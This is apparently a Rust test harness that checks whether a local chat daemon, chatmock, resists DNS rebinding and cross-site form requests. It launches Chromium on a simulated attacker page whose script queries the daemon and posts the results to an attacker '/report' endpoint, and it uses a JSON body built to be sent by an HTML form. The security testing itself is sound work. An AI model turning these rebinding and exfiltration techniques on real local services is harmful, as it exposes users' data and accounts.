//! The daemon, its backend, the attacker and the browser.

use std::io::Read;
use std::process::{Child, Command};

use chatmock_simulator::Settings;
use chatmock_testkit::backend::Backend;
use chatmock_testkit::client::{Reply, Request};
use chatmock_testkit::process::PATIENCE;
use chatmock_testkit::{blocking, chromium};
use tempfile::TempDir;

use crate::attacker::Attacker;
use crate::process::{Running, program};

/// The attacker's name, which leads to this machine.
pub(crate) const REBOUND: &str = "rebind.test";

/// A question that a form can send, too: the form inserts the equals sign.
pub(crate) const QUESTION: &str = concat!(
    r#"{"model":"gpt-5.5","messages":[{"role":"user","content":"marzipan"}],"#,
    r#""metadata":{"form":"="}}"#
);

/// The start of every attack: the daemon, the question, and a fetch that reports its result.
const PRELUDE: &str = r#"
    const attempt = async (address, options) => {
        try {
            const answer = await fetch(address, options);
            return `${answer.type} ${answer.status} ${await answer.text()}`;
        } catch (fault) {
            return fault.name;
        }
    };
    const json = { method: "POST", headers: { "content-type": "application/json" }, body: QUESTION };
"#;

/// A daemon that is signed in at its own backend, so that the calls of the backend can be counted.
pub(crate) struct Harness {
    pub(crate) daemon: Running,
    backend: Backend,
}

impl Harness {
    pub(crate) fn new(flags: &[&str]) -> Self {
        let backend = Backend::signed_in(Settings::default()).unwrap();
        // Fetching the list of models would be counted as well.
        let mut command = program(&["--port", "0", "--model-sync", "false"]);
        command.args(backend.flags()).args(flags).env("CHATMOCK_STORE", "file");
        Self { daemon: Running::start(&mut command), backend }
    }

    /// Shows a page of the attacker in the browser; returns the result of its script, an async
    /// function.
    pub(crate) fn visit(&self, attacker: Attacker, name: &str, script: &str) -> String {
        let (address, port) = (&self.daemon.address, attacker.port);
        // The report goes to another name, because connections of the page's name may lead to the
        // daemon by then.
        let reported = format!("{}/report", attacker.origin());
        let page = format!(
            "<!doctype html><body><script type=module>\
             const DAEMON = \"{address}\", QUESTION = `{QUESTION}`;{PRELUDE}\
             const body = await (async () => {{ {script} }})();\
             await fetch(\"{reported}\", {{ method: \"POST\", body, mode: \"no-cors\" }});</script>"
        );
        let reports = attacker.serve(page, address);
        let _browser = Browser::start(&format!("http://{name}:{port}/"));
        reports.recv_timeout(PATIENCE).unwrap()
    }

    /// Waits until the daemon has logged that it rejected a request.
    pub(crate) fn refused(&self, method: &str, path: &str) {
        self.daemon.line(&format!("method=\"{method}\" path=\"{path}\" status=403"));
    }

    /// Returns how many requests the backend has got so far.
    pub(crate) fn calls(&self) -> u64 {
        self.backend.simulator.stats().requests.values().sum()
    }

    /// Checks that the backend got no request, and that it gets the same request from a program.
    pub(crate) fn untouched(&self, content_type: &str) {
        assert_eq!(self.calls(), 0);
        let question = Request::new("POST", "/v1/chat/completions").body(QUESTION);
        let reply = self.ask(&question.with("content-type", content_type));
        assert_eq!(reply.status, 200, "{}", reply.text());
        assert!(reply.text().contains("You said: marzipan"), "{}", reply.text());
        assert_eq!((self.calls(), self.backend.simulator.stats().responses()), (1, 1));
    }

    /// Sends a request as a program does, without an origin.
    pub(crate) fn ask(&self, request: &Request) -> Reply {
        let request = request.clone().with("host", &self.daemon.address);
        blocking::send(&self.daemon.address, &request).unwrap()
    }
}

/// A Chromium that shows a page until it is dropped.
struct Browser {
    child: Child,
    _profile: TempDir,
}

impl Browser {
    fn start(address: &str) -> Self {
        let profile = TempDir::new().unwrap();
        let child = chromium(&profile).arg(address).spawn().unwrap();
        Self { child, _profile: profile }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        self.child.kill().ok();
        self.child.wait().ok();
        // Its helper processes hold the same pipe. When the pipe closes, none of them writes into
        // the profile any more.
        self.child.stdout.take().map(|mut pipe| pipe.read_to_end(&mut Vec::new()));
    }
}

/// Returns the text of a page without scripts.
pub(crate) fn shown(address: &str) -> String {
    let profile = TempDir::new().unwrap();
    let output = chromium(&profile).args(["--dump-dom", address]).output().unwrap();
    String::from_utf8(output.stdout).unwrap()
}

/// Chromium, for which the attacker's name leads to this machine.
fn chromium(profile: &TempDir) -> Command {
    let mut command = chromium::command(profile.path());
    command.arg(format!("--host-resolver-rules=MAP {REBOUND} 127.0.0.1"));
    command
}
